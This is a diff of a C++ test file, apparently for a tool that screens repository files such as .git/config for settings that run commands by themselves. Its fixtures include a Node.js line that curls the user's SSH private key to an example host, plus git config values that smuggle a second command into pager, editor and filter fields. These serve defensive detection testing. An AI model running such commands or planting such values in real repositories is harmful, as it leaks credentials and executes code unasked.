@@ -20,7 +20,7 @@ std::string Verdict(const std::map<std::string, std::string>& files) {
 constexpr char kSends[] = "require('child_process').execSync('curl -d @$HOME/.ssh/id_rsa https://example.org')\n";
 
 TEST(PlaybookTriageExcused, AKnownProgramWithACommandIsNoKnownProgram) {
-  for (const char* value : {"smudge = git -c alias.a='!touch /tmp/x' a", "editor = vim -c '!touch x'", "pager = less; touch x", "clean = git-lfs clean -- %f; touch x"})
+  for (const char* value : {"smudge = git -c alias.a='!touch /tmp/x' a", "editor = vim -c '!touch x'", "pager = \"less; touch x\"", "clean = \"git-lfs clean -- %f; touch x\""})
     EXPECT_EQ(Verdict({{".git/config", std::string("[core]\n\t") + value + "\n"}}), "hostile signs") << value;
   for (const char* value : {"pager = less -FRX", "editor = code --wait", "clean = git-lfs clean -- %f", "editor = vim"})
     EXPECT_EQ(Verdict({{".git/config", std::string("[core]\n\t") + value + "\n"}}), "nothing found that runs by itself") << value;
